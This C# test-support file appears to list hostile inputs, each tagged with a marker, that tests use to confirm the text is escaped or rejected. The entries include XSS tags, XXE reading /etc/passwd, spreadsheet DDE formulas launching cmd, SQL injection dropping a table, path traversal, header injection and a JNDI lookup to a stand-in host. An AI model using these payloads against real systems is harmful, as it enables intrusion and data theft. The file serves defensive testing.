namespace Assessment.TestSupport;

/// <summary>
/// What somebody types who means harm, or whose clipboard does: each must come out as the text that it is, or be refused. What would run or
/// become markup carries <see cref="Mark"/>, by which a test finds it where it must not be.
/// </summary>
internal static class HostileTexts
{
    /// <summary>In everything that would run, or be an element, an attribute or a formula.</summary>
    public const string Mark = "zzx";

    /// <summary>All of them, by what they are.</summary>
    public static IReadOnlyList<(string What, string Text)> All { get; } =
    [
        // markup
        ("script", "<script>zzx()</script>"),
        ("script in upper case", "<SCRIPT SRC=//zzx.example/x.js></SCRIPT>"),
        ("script that ends another", "</script><script>zzx()</script>"),
        ("picture with a handler", "<img src=x onerror=zzx()>"),
        ("drawing with a handler", "<svg/onload=zzx()>"),
        ("drawing with a script", "<svg><script>zzx()</script></svg>"),
        ("frame", "<iframe srcdoc='<script>zzx()</script>'></iframe>"),
        ("style", "<style>*{background:url(//zzx.example)}</style>"),
        ("base", "<base href=//zzx.example/>"),
        ("refresh", "<meta http-equiv=refresh content='0;url=//zzx.example'>"),
        ("form", "<form action=//zzx.example><button>OK</button></form>"),
        ("end of the table", "</td></tr></table><b class=zzx>"),
        ("end of a text area", "</textarea><zzx-element>"),
        ("end of the title", "</title><zzx-element>"),
        ("comment", "--><zzx-element><!--"),
        ("CDATA", "]]><zzx-element><![CDATA["),
        ("custom element", "<zzx-element is=zzx>"),
        ("mathematics", "<math><mtext><table><mglyph><style><img src=x onerror=zzx()>"),
        ("unclosed", "<img src=\"zzx"),
        ("broken tag", "<<script>zzx()//<</script>"),
        ("wide brackets", "＜script＞zzx()＜/script＞"),
        // attributes
        ("end of an attribute", "\" onmouseover=\"zzx()"),
        ("end of a plain attribute", "' autofocus onfocus='zzx()"),
        ("attribute without quotes", "x onclick=zzx() "),
        ("end of attribute and tag", "\"><zzx-element>"),
        ("back quotes", "`onmouseover=zzx()`"),
        // addresses
        ("address that runs", "javascript:zzx()"),
        ("address that runs, spelt oddly", "JaVa\tScRiPt:zzx()"),
        ("data address", "data:text/html;base64,PHNjcmlwdD56engoKTwvc2NyaXB0Pg=="),
        ("script address of old", "vbscript:zzx"),
        ("address of elsewhere", "//zzx.example/x"),
        // entities
        ("entities", "&lt;script&gt;zzx()&lt;/script&gt;"),
        ("numeric entities", "&#60;img src=x onerror=zzx()&#62;"),
        ("entity without its end", "&lt&#x3c;zzx&amp"),
        ("external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
        ("many laughs", "<!DOCTYPE l [<!ENTITY a \"zzx\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>"),
        ("processing instruction", "<?xml-stylesheet href=\"zzx.xsl\"?>"),
        // formulas
        ("formula", "=1+zzx"),
        ("formula of a program", "=cmd|'/c calc'!A0 zzx"),
        ("formula of an address", "=HYPERLINK(\"http://zzx.example?\"&A1,\"ok\")"),
        ("formula after a plus", "+zzx(1)"),
        ("formula after a minus", "-zzx(1)"),
        ("formula after an at", "@SUM(zzx)"),
        ("formula after a tab", "\t=zzx"),
        ("formula after a carriage return", "\r=zzx"),
        ("formula after a line's end", "\n=zzx"),
        ("wide formula", "＝zzx()"),
        ("DDE", "DDE(\"cmd\";\"/C calc\";\"zzx\")"),
        ("end of a field", "a\",=zzx,\""),
        ("separator", "a;=zzx;b"),
        ("escape of a workbook", "_x003D_zzx()"),
        // direction, width, control
        ("direction turned", "\u202Efdp.zzx"),
        ("direction isolated", "\u2067zzx\u2069"),
        ("written from the right", "שלום zzx مرحبا"),
        ("of no width", "z\u200Bz\u200Dx\uFEFF\u2060"),
        ("marks of direction", "\u200Fzzx\u200E"),
        ("many accents", "z" + new string('\u0301', 60) + "zx"),
        ("nul", "a\0zzx"),
        ("control characters", "\a\b\u001B[31mzzx\u007F\u0085"),
        ("separators of lines", "zzx\u2028\u2029"),
        ("noncharacter", "zzx\uFFFF\uFFFE"),
        ("half a character", "zzx\uD842"),
        ("halves the wrong way round", "\uDFB7\uD842zzx"),
        ("tags without a look", "zzx\U000E0061\U000E007F"),
        ("32,767 characters", "zzx" + new string('长', 32_764)),
        // other languages
        ("template", "{{zzx}} ${zzx} #{zzx} <%= zzx %> @zzx {0} %s %n"),
        ("template of a head", "&P&D&[Path]&\"zzx\""),
        ("query", "'; DROP TABLE journal; -- zzx"),
        ("query that is always true", "' OR '1'='1' /* zzx"),
        ("way out of a folder", "../../../etc/passwd\\..\\zzx"),
        ("device", "CON zzx"),
        ("head of a response", "zzx\r\nSet-Cookie: zzx=1\r\n\r\n<html>"),
        ("head of a response, encoded", "zzx%0d%0aSet-Cookie:%20zzx=1"),
        ("lookup", "${jndi:ldap://zzx.example/a}"),
        ("command", "$(zzx) `zzx` | zzx & zzx"),
        ("JSON", "\",\"zzx\":{\"$type\":\"zzx\"},\""),
        ("prototype", "__proto__ zzx"),
        ("log line", "zzx\n2026-11-22 00:00:00 ok admin"),
    ];
}
